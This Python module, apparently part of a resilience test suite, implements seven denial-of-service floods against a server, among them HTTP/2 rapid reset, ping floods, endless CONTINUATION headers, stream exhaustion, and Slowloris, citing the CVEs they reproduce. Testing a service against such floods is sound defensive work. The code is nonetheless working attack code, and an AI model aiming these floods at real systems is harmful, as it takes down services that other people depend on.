"""The floods. Each goes on until it is cancelled or the server cuts it off (ConnectionError, if it is to go on anew),
and counts in `seen` what happened.
"""

import asyncio
import resource
from collections import Counter
from typing import Final

from bench.hpack import METHOD_POST
from bench.http2 import CONTINUATION, DATA, END_STREAM, HEADERS, MAX_FRAME_BYTES, PING, RST_STREAM
from tests.floods.http2 import CANCEL, Door, connected, frame

BEGUN: Final = "flooding"
BATCH: Final = 100
REQUEST: Final = b"\0\0\0\0\x09\x0a\x071000000"  # gRPC's prefix, and a GetTokenRequest
# How a header begins that is to be put in no table (RFC 7541 6.2.2), its name, and its value's length.
LITERAL: Final = b"\x00\x04long\x7d"
VALUE_BYTES: Final = 0x7D
CLIENT_HELLO: Final = b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03"  # how one begins (RFC 8446 4.1.2)
HTTP_HEAD: Final = b"POST /envoy/webhooks HTTP/1.1\r\nhost: broker\r\nx: "
SILENT_CONNECTIONS: Final = 3000
SLOW_CONNECTIONS: Final = 800
DRIP_SECONDS: Final = 0.2
HALF_MESSAGES: Final = 100
HALF_MESSAGE_BYTES: Final = 1024 * 1024
STREAMS_TOO_MANY: Final = 200


async def rapid_reset(door: Door, seen: Counter[str]) -> None:
    """Calls that are taken back as soon as they are made (CVE-2023-44487)."""
    async with connected(door, seen) as connection:
        while True:
            batch = bytearray()
            for _ in range(BATCH):
                stream, headers = connection.call()
                request = frame(DATA, END_STREAM, stream, REQUEST)
                batch += headers + request + frame(RST_STREAM, 0, stream, CANCEL)
            await connection.send(bytes(batch))
            seen["sent"] += BATCH


async def pings(door: Door, seen: Counter[str]) -> None:
    """Pings, each of which would have to be answered (CVE-2019-9512)."""
    batch = frame(PING, 0, 0, b"flooding") * BATCH
    async with connected(door, seen) as connection:
        while True:
            await connection.send(batch)
            seen["sent"] += BATCH


async def endless_metadata(door: Door, seen: Counter[str]) -> None:
    """Headers that go on and on (VU#421644)."""
    block = (LITERAL + b"x" * VALUE_BYTES) * (MAX_FRAME_BYTES // (len(LITERAL) + VALUE_BYTES))
    async with connected(door, seen) as connection:
        await connection.send(frame(HEADERS, 0, 1, METHOD_POST))
        while True:
            await connection.send(frame(CONTINUATION, 0, 1, block))
            seen["sent"] += len(block)


async def half_messages(door: Door, seen: Counter[str]) -> None:
    """Messages that are sent almost to their end, and kept waiting there."""
    async with connected(door, seen) as connection:
        streams = []
        for _ in range(HALF_MESSAGES):
            stream, headers = connection.call()
            await connection.send(headers)
            streams.append(stream)
        part = b"\0" + HALF_MESSAGE_BYTES.to_bytes(4) + bytes(HALF_MESSAGE_BYTES - 1)
        await asyncio.gather(*(connection.upload(stream, part) for stream in streams))
        seen["uploads"] = len(streams)
        await connection.closed()


async def streams_too_many(door: Door, seen: Counter[str]) -> None:
    """More calls under way than the server takes, on one connection, none of which goes on."""
    async with connected(door, seen) as connection:
        seen["max streams"] = connection.max_streams
        for _ in range(connection.max_streams + STREAMS_TOO_MANY):
            await connection.send(connection.call()[1])
        await connection.closed()


async def silent_connections(door: Door, seen: Counter[str]) -> None:
    """Connections without a word, and such that stop in the middle of the first; until the server has cut them all."""
    _many_descriptors()
    words = (b"", CLIENT_HELLO)
    said = (words[number % len(words)] for number in range(SILENT_CONNECTIONS))
    await asyncio.gather(*(_held_open(door, seen, each) for each in said))


async def slow_headers(door: Door, seen: Counter[str]) -> None:
    """HTTP requests that come byte by byte and don't end (Slowloris), each made anew when it is cut."""
    _many_descriptors()
    await asyncio.gather(*(_dripping(door, seen) for _ in range(SLOW_CONNECTIONS)))


async def _held_open(door: Door, seen: Counter[str], word: bytes) -> None:
    try:
        reader, writer = await asyncio.open_connection(door.host, door.port)
        seen["connections"] += 1
        writer.write(word)
        await reader.read()
        writer.transport.abort()
    except OSError:
        pass  # a way to be cut, too
    seen["cut"] += 1


async def _dripping(door: Door, seen: Counter[str]) -> None:
    while True:
        try:
            _, writer = await asyncio.open_connection(door.host, door.port)
            seen["connections"] += 1
            writer.write(HTTP_HEAD)
            while not writer.is_closing():
                await asyncio.sleep(DRIP_SECONDS)
                writer.write(b"x")
        except OSError:
            pass  # a way to be cut, too
        seen["cut"] += 1


def _many_descriptors() -> None:
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))


FLOODS: Final = {
    flood.__name__: flood
    for flood in (
        rapid_reset,
        pings,
        endless_metadata,
        half_messages,
        streams_too_many,
        silent_connections,
        slow_headers,
    )
}
